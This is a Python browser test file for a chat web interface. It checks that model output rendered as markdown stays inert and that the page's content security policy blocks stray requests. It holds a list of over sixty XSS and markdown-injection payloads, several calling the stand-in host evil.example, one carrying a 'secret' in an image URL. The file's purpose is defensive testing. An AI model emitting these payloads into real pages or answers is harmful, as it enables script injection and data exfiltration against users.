"""Sixty payloads that a model might say: none is executed, none fetches anything.

The page must survive them itself, without the help of its policy: a policy that had to step in
would leave an error on the console, and that fails the test too.
"""

from typing import Any

from tests.api.support import EOS
from tests.browser.conftest import connected, happens, served, visit
from tests.draws import also_at_night, count
from thirdeye.server.engine.interface.types import Request

PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=http://evil.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/x>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" srcset="http://evil.example/x 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=http://evil.example/x /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=http://evil.example/x#a /></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(http://evil.example/x)}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/x>",
    "<iframe src=http://evil.example/x></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example/x></object>",
    "<embed src=http://evil.example/x>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/x'>",
    "<form action=http://evil.example/x><button autofocus>go</button></form>",
    "<video src=http://evil.example/x autoplay></video>",
    "<audio src=http://evil.example/x autoplay onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<template><script>alert(1)</script></template>",
    "<x-y onclick=alert(1)>z</x-y>",
    "![x](http://evil.example/x)",
    '![x](http://evil.example/x?secret=abc "title")',
    "![x][1]\n\n[1]: http://evil.example/x",
    "[![x](http://evil.example/x)](http://evil.example/x)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:http://evil.example/x)",
    "[x](//evil.example/x)",
    '[x](http://evil.example/x" onmouseover="alert(1))',
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "<http://evil.example/x>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))",
    "# <img src=x onerror=alert(1)>",
    "**<script>alert(1)</script>** *[x](javascript:alert(1))*",
    "<!--><img src=x onerror=alert(1)>-->",
    "\u202e<script>alert(1)</script>\x00<img src=x\x00 onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{alert(1)}",
]


def echo(request: Request) -> list[int]:
    """What the user said last, word for word."""
    text = bytes(i for i in request.prompt_token_ids if i < 256)
    said = text.removesuffix(b"assistant\n").rpartition(b"user\n")[2]
    return [*said, EOS]


GROW = """async (texts) => {
  const { render } = await import('/web/markdown/markdown.js');
  for (const text of texts) {
    const node = document.createElement('div');
    node.className = 'body';
    document.querySelector('#log').append(node);
    for (let i = 1; i <= text.length; i++) render(node, text.slice(0, i));
  }
}"""


@also_at_night
def test_sixty_payloads_execute_nothing_and_fetch_nothing(browser: Any) -> None:
    """As message, as answer, as chat title after a reload: text is text. At a push each is drawn as
    an answer is, letter by letter, and every eighth goes the whole way."""
    assert len(PAYLOADS) >= 60
    with served(echo) as (url, engine), visit(browser, url) as seen:
        page = seen.page
        connected(page)
        page.evaluate(GROW, PAYLOADS)
        check(page, "all of them")
        whole = PAYLOADS[:: count(8, 1)]
        for payload in whole:
            page.click("#clear")
            page.fill("#prompt", payload)
            page.press("#prompt", "Enter")
            page.wait_for_selector(
                ".assistant:not(.waiting) .note:has-text('tokens/s'), .note.error"
            )
            assert page.locator(".note.error").count() == 0, payload
            check(page, payload)
        page.reload()
        check(page, whole[-1])
        assert len(engine.requests) == len(whole)


def check(page: Any, payload: str) -> None:
    """Links are http(s) or mailto, and open elsewhere; no element is one that could do anything."""
    bad = page.evaluate(
        """() => [
          ...document.querySelectorAll('#log :is(script, img, svg, iframe, object, embed, style,'
            + 'link, base, meta, form, video, audio, input, template, math)'),
          ...[...document.querySelectorAll('#log a')].filter((a) =>
            !/^(https?|mailto):/.test(a.href) || a.rel !== 'noopener noreferrer'),
          ...[...document.querySelectorAll('#log *')].filter((node) =>
            [...node.attributes].some(({ name }) => /^on/.test(name))),
        ].map((node) => node.outerHTML)"""
    )
    assert bad == [], payload


def test_the_inspector_and_the_policy(browser: Any) -> None:
    """Tokens and guesses are text too; and were a script to get in, the policy would stop it."""
    with served(echo) as (url, _), visit(browser, url, "/#inspector") as seen:
        page = seen.page
        page.wait_for_selector("#next .next")
        page.fill("#look-text", "<img src=x onerror=alert(1)>")
        page.click("#look-form button")
        page.wait_for_selector("#tokens .token:nth-child(28)")
        page.wait_for_selector("#inspection:not([aria-busy])")
        assert page.locator("#inspector img").count() == 0
        refused = page.evaluate(
            """() => new Promise((done) => {
              addEventListener('securitypolicyviolation', (e) => done(e.effectiveDirective));
              const image = document.createElement('img');
              image.src = 'http://evil.example/x';
              document.body.append(image);
            })"""
        )
        assert refused == "img-src"
        with_markup = page.evaluate(
            "() => { try { document.body.innerHTML = 'x'; } catch { return 'refused'; } }"
        )
        assert with_markup == "refused"
        happens(page, lambda: seen.foreign == ["http://evil.example/x"])
        seen.foreign.clear()  # that of just now
        seen.errors.clear()  # and the two of it
